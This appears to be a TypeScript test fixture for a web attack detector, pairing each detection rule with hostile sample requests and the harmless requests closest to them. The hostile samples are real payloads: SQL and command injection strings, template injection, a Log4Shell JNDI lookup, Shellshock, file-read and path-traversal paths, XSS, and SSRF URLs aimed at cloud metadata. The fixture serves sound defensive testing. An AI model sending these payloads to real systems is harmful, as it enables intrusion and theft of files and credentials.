import type { Request } from './request.ts';

type Some = Partial<Request>;
const value = (text: string): Some => ({ target: `/page?q=${encodeURIComponent(text)}` });
const target = (text: string, status = 200): Some => ({ target: text, status });
const agent = (userAgent: string): Some => ({ userAgent });

/** By rule: requests that it is for, and the harmless ones that are nearest to them. */
export const NEIGHBOURS: Readonly<Record<string, { hostile: readonly Some[]; harmless: readonly Some[] }>> = {
  web_sql_injection: {
    hostile: [
      value("1' or '1'='1"),
      value('-1 union select 1,2,3'),
      target('/login?user[$ne]=x&password[$ne]=x'),
    ],
    harmless: [
      value("O'Reilly or O'Brien"),
      value('union select committee'),
      value("project = 'A' and status = 'Open'"),
      target('/api?filters[username][$ne]=x'),
      value("kids' and babies' clothes"),
    ],
  },
  web_command_injection: {
    hostile: [value('127.0.0.1;id'), value('x|cat /etc/passwd'), value('127.0.0.1\nwhoami')],
    harmless: [
      value('cat food; dog food'),
      value('user|name|id'),
      target('/a?x=1&id=5&ls=2'),
      value('run `ls` first'),
    ],
  },
  web_code_injection: {
    hostile: [target('/?-d+allow_url_include%3d1'), value('eval(base64_decode(x))')],
    harmless: [value('php eval function'), value('base64_decode in php')],
  },
  web_template_injection: {
    hostile: [value('{{7*7}}'), value("{{''.__class__}}"), value("<%= system('id') %>")],
    harmless: [target('/img/{{image}}.png'), value('{{ name }} in mustache'), value('__class__ in python')],
  },
  web_jndi_lookup: {
    hostile: [agent('${jndi:ldap://192.0.2.9/a}'), agent('${${lower:j}ndi:ldap://192.0.2.9/a}')],
    harmless: [
      value('log4j jndi:ldap explained'),
      target('/users/$%7BuserId%7D/avatar'),
      value('${VAR:-default} in bash'),
    ],
  },
  web_shellshock: {
    hostile: [agent('() { :;}; echo x')],
    harmless: [value('function() { return 1 }'), value('async () => { }'), value('main() { exit }')],
  },
  web_ognl_injection: {
    hostile: [
      target('/x?class.module.classLoader.x=1'),
      target('/%24%7B%28%23a%3D%40java.lang.Runtime%40x%29%7D/'),
    ],
    harmless: [
      target('/docs/java/lang/Runtime.html'),
      target('/view.jsp?class=com.example.Item&loader=lazy'),
    ],
  },
  web_file_read: {
    hostile: [
      target('/a?file=../../etc/passwd'),
      target('/a?page=php://filter/convert.base64-encode/resource=x'),
    ],
    harmless: [
      value('what is /etc/passwd'),
      target('/docs/../img/logo.png'),
      target('/download?file=reports%2FQ3.pdf'),
    ],
  },
  web_path_traversal: {
    hostile: [target('/%2e%2e/%2e%2e/x'), target('/a?f=../../../../x')],
    harmless: [target('/a/b/../../img/x.png'), target('/compare/v1...v2'), target('/link?to=..%2F..%2Fhome')],
  },
  web_cross_site_scripting: {
    hostile: [value('<script>alert(1)</script>'), value('<img src=x onerror=alert(1)>')],
    harmless: [value('a < b and c > d'), value('I <3 you'), value('onclick handler')],
  },
  web_scanner: {
    hostile: [
      agent('sqlmap/1.8.4#stable (https://sqlmap.org)'),
      agent('Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)'),
    ],
    harmless: [value('sqlmap tutorial'), agent('python-httpx/0.27.2'), target('/products/nessus-license')],
  },
  web_forced_browsing: {
    hostile: [
      target('/.git/HEAD', 404),
      target('/.env', 404),
      target('/wp-admin/', 404),
      target('/backup.zip', 404),
    ],
    harmless: [
      target('/team/shop.git/HEAD'),
      target('/wp-admin/'),
      target('/.well-known/security.txt'),
      target('/downloads/data-2026.zip'),
      target('/server-status?auto'),
      target('/actuator/health'),
    ],
  },
  web_ssrf_metadata: {
    hostile: [
      target('/fetch?url=http://169.254.169.254/latest/meta-data/'),
      target('/fetch?url=http://0251.0376.0251.0376/'),
      target('/fetch?url=http://[::ffff:a9fe:a9fe]/'),
    ],
    harmless: [
      value('what is 169.254.169.254'),
      { client: '169.254.169.254' },
      target('/proxy?url=http://192.168.1.10/latest/report'),
    ],
  },
  web_shell: {
    hostile: [target('/uploads/x.php'), target('/x.php?cmd=id')],
    harmless: [
      target('/index.php?cmd=list'),
      target('/uploads/photo.jpg'),
      target('/cgi-bin/webscr?cmd=_xclick'),
    ],
  },
  web_encoding_evasion: {
    hostile: [target('/a?x=%c0%ae'), target('/a?x=b%00'), target('/a?x=%u0027')],
    harmless: [target('/a?next=%252Forders%253Fid%253D5'), value('café 東京 😀'), value('100%')],
  },
};
